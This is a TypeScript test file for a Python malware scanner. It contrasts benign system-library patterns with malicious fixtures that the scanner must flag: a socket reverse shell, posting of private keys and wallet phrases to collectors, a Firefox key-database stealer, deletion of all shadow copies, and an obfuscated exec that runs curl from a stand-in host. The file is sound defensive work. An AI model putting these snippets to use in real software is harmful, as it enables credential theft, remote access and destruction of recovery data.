// What system and infrastructure libraries do on purpose (found on a fresh random sample of Debian's python3-*
// packages): a daemon puts /dev/null behind its standard streams, a cloud API receives the certificate key it stores,
// a directory server names its NSS databases, a remote-admin tool deletes the one shadow copy it made, code learns
// its outward address through 8.8.8.8, a glyph list is stored gzip'd. Each stays below medium, and each test keeps
// the malicious shape it must not be confused with at high or above.
import assert from 'node:assert/strict';
import { before, test } from 'node:test';
import { initAnalysis } from '../../src/analysis/api.ts';
import { looksLikePython } from '../../src/analysis/decode/detect.ts';
import { analyzePythonFile } from '../../src/analysis/python-file.ts';
import type { Finding } from '../../src/model/result.ts';
import { analyseFiles } from './in-memory-target.ts';

before(() => initAnalysis());

function findings(source: string, path = 'demo/mod.py'): Finding[] {
  return analyzePythonFile(path, new TextEncoder().encode(source))[0].findings;
}
const ruleOf = (list: Finding[], rule: string) => list.find((f) => f.rule === rule);

test('a daemon that puts /dev/null behind its standard streams is not a reverse shell; a socket behind them is', () => {
  const daemon = findings(
    [
      'import os, logging.handlers',
      'def start(app):',
      '    log = logging.handlers.SysLogHandler(address=("localhost", 514))',
      '    fd = os.open(os.devnull, os.O_RDWR)',
      '    os.dup2(fd, 0)',
      '    os.dup2(fd, 1)',
      '    os.dup2(fd, 2)',
      '',
    ].join('\n'),
  );
  assert.equal(ruleOf(daemon, 'reverse-shell'), undefined);
  const shell = findings(
    [
      'import os, socket, subprocess',
      'def connect():',
      '    s = socket.socket()',
      '    s.connect(("192.0.2.10", 4444))',
      '    fd = s.fileno()',
      '    os.dup2(fd, 0)',
      '    os.dup2(fd, 1)',
      '    subprocess.call(["/bin/sh", "-i"])',
      '',
    ].join('\n'),
  );
  assert.equal(ruleOf(shell, 'reverse-shell')?.severity, 'high');
});

test('a private key a cloud API call sends to its service is medium when called; to a collector or a bot it is high', () => {
  const cloud = findings(
    [
      'import json, requests',
      'class Driver:',
      '    def _call_api(self, action, data):',
      '        return requests.post("https://api.cloud.example/api/" + action, data=data)',
      '    def create_server_certificate(self, name, body, private_key=None):',
      '        data = {"Name": name, "Body": body}',
      '        if private_key is not None:',
      '            data.update({"PrivateKey": private_key})',
      '        return self._call_api("CreateServerCertificate", json.dumps(data))',
      '',
    ].join('\n'),
  );
  assert.equal(ruleOf(cloud, 'exfiltration')?.severity, 'medium');
  const drainer = findings(
    'import requests\ndef perm(private_key):\n    requests.post("https://0123456789abcdef01234567.mockapi.io/t", json={"k": private_key})\n',
  );
  assert.ok(['high', 'critical'].includes(ruleOf(drainer, 'exfiltration')?.severity ?? ''));
  const mnemonic = findings(
    'import requests\ndef restore(mnemonic):\n    requests.post("https://api.wallet.example/restore", json={"m": mnemonic})\n',
  );
  assert.equal(ruleOf(mnemonic, 'exfiltration')?.severity, 'high', 'a recovery phrase is only ever a wallet secret');
});

test("NSS databases named by a server's certificate store are not browser credentials; a Firefox profile's are", async () => {
  const server = await analyseFiles({
    'lib389/nss.py': [
      'import requests',
      'def db_files(certdir):',
      '    return [certdir + "/" + f for f in ("key3.db", "cert8.db", "key4.db", "cert9.db")]',
      'def status(url):',
      '    return requests.get(url)',
      '',
    ].join('\n'),
  });
  assert.ok(!['high', 'critical'].includes(server.risk), `got ${server.risk}`);
  const stealer = await analyseFiles({
    'grab/__init__.py': [
      'import os, shutil, requests',
      'def grab():',
      '    base = os.path.join(os.getenv("APPDATA"), "Mozilla", "Firefox", "Profiles")',
      '    for p in os.listdir(base):',
      '        shutil.copy(os.path.join(base, p, "key4.db"), "/tmp/k")',
      '    requests.post("https://collect.example/u", files={"f": open("/tmp/k", "rb")})',
      'grab()',
      '',
    ].join('\n'),
  });
  assert.ok(['high', 'critical'].includes(stealer.risk), `got ${stealer.risk}`);
});

test('deleting one shadow copy by its id is not wiping recovery points; deleting them all is', () => {
  const cleanup = findings(
    'def remove(self, shadow_id):\n    self.execute_remote(\'%%COMSPEC%% /C vssadmin delete shadows /shadow="{%s}" /Quiet\' % shadow_id)\n',
  );
  assert.equal(ruleOf(cleanup, 'destructive-command'), undefined);
  const ransom = findings('def wipe(run):\n    run("vssadmin delete shadows /all /quiet")\n');
  assert.equal(ruleOf(ransom, 'destructive-command')?.severity, 'high');
});

test("the public DNS resolvers' addresses are not a raw-IP destination; another address is", () => {
  const ownAddress = findings(
    [
      'import socket',
      'def local_ip():',
      '    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)',
      '    s.connect(("8.8.8.8", 80))',
      '    return s.getsockname()[0]',
      '',
    ].join('\n'),
  );
  const call = ownAddress.find((f) => f.rule === 'egress-network-call');
  assert.equal(call?.destination?.kind, 'public-resolver');
  assert.equal(call?.severity, 'low');
  const raw = findings(
    'import socket\ndef beacon():\n    s = socket.socket()\n    s.connect(("203.0.113.50", 80))\n    s.send(b"hi")\n',
  );
  assert.equal(raw.find((f) => f.rule === 'egress-network-call')?.destination?.kind, 'ip-literal');
});

test('a data file whose lines hold ";"-separated fields is not Python; statements joined by ";" are', () => {
  const glyphs = '# Adobe Glyph List (c) 1997\nA;0041\nAE;00C6\nAEacute;01FC\nAacute;00C1\n';
  assert.equal(looksLikePython(glyphs), false);
  assert.equal(looksLikePython('a = 1\nprint(a)'), true);
  assert.equal(looksLikePython('os.getcwd();run(x)'), true);
});

test('eval() of what an interpreter session answers is not a home-made decoder; a function of chr/ord arithmetic decodes', () => {
  const session = findings(
    [
      'class Session:',
      '    def eval(self, code):',
      '        line = ""',
      '        for part in str(code).split("\\n"):',
      '            line += " " + part',
      '        result = Expect.eval(self, line)',
      '        return result',
      'class Gap(Session):',
      '    def cputime(self):',
      "        return sum(eval(self.eval('[_r_.user_time, _r_.system_time, _r_.user_time_children, _r_.system_time_children]')))",
      '',
    ].join('\n'),
  );
  assert.equal(ruleOf(session, 'exec-custom-decoder'), undefined);
  const decoder = findings(
    [
      'def unscramble(s):',
      '    return "".join(chr(ord(c) - 3) for c in s)',
      `exec(unscramble("${'lpsruw#rv>rv1v|vwhp+%fxuo#kwws=22{1h{dpsoh2d#’#vk%,'.repeat(2)}"))`,
      '',
    ].join('\n'),
  );
  // the evaluator decodes the shift itself (ciphers.ts): the payload is shown and rescanned
  const decoded = ruleOf(decoder, 'exec-decoded-payload');
  assert.ok(['high', 'critical'].includes(decoded?.severity ?? ''));
  assert.match(decoded?.decoded?.preview ?? '', /os\.system/);
});

test('an IP literal a module constant defines on import is low; handed to a call on import it stays medium', () => {
  const constant = findings('SERVERS = ["203.0.113.44"]\ndef pick(i):\n    return SERVERS[i]\n');
  assert.equal(ruleOf(constant, 'hardcoded-endpoint')?.severity, 'low');
  const handed = findings('import client\nclient.configure("203.0.113.45")\n');
  assert.equal(ruleOf(handed, 'hardcoded-endpoint')?.severity, 'medium');
});

test('a reconnaissance command whose output only a comparison reads tests the platform; its output kept is recon', () => {
  const list = findings(
    'import subprocess\nIS_WIN2016 = b"Windows Server 2016" in subprocess.check_output(("systeminfo",))\n',
  );
  assert.equal(ruleOf(list, 'process-launch-payload'), undefined);
  const kept = findings('import subprocess\nUSER = subprocess.check_output(["whoami"])\n');
  assert.equal(ruleOf(kept, 'process-launch-payload')?.severity, 'high');
});
